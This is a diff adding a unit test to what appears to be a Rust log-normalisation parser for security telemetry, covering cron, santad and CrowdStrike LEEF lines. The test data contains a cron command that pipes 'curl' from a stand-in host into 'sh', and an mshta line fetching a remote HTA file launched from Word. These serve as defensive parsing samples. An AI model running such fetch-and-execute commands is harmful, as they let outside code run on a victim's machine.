@@ -3299,6 +3299,12 @@ mod tests {
             "short_message": "[2025-07-29T16:40:12.551Z] I santad: action=EXEC|decision=ALLOW|reason=UNKNOWN|pid=3381|ppid=1|uid=501|user=mr|path=/Users/mr/.n/node|args=node /Users/mr/.n/i.js"}), "x").unwrap();
         assert_eq!(g.doc["process"]["executable"], "/Users/mr/.n/node");
         assert_eq!(g.doc["host"]["name"], "MBP-7");
+        // cron's log line for a job (journald's JSON export): sh -c as the job's user.
+        let cr = from_json(json!({"_HOSTNAME": "cms-1", "SYSLOG_IDENTIFIER": "CRON", "MESSAGE": "(www-data) CMD (curl -fsSL http://x.example/u.sh | sh >/dev/null 2>&1)"}), "x").unwrap();
+        assert_eq!(cr.doc["process"]["command_line"], "/bin/sh -c curl -fsSL http://x.example/u.sh | sh >/dev/null 2>&1");
+        assert_eq!(cr.doc["process"]["parent"]["name"], "cron");
+        assert_eq!(cr.doc["user"]["name"], "www-data");
+        assert_eq!(cr.doc["host"]["name"], "cms-1");
         // LEEF (CrowdStrike's SIEM connector) and CEF (a firewall) lines under a message field.
         let leef = from_json(json!({"event": {"original": "<12>Jun 19 10:14:36 conn CrowdStrike LEEF:1.0|CrowdStrike|FalconHost|1.0|Suspicious Activity|cat=DetectionSummaryEvent\tresource=WKS-5\tusrName=jt\tfileName=mshta.exe\tfilePath=\\Device\\HarddiskVolume3\\Windows\\System32\\mshta.exe\tcommandLine=mshta.exe https://x.example/v.hta\tparentImageFileName=\\Device\\HarddiskVolume3\\Program Files\\Office\\WINWORD.EXE"}}), "x").unwrap();
         assert_eq!(
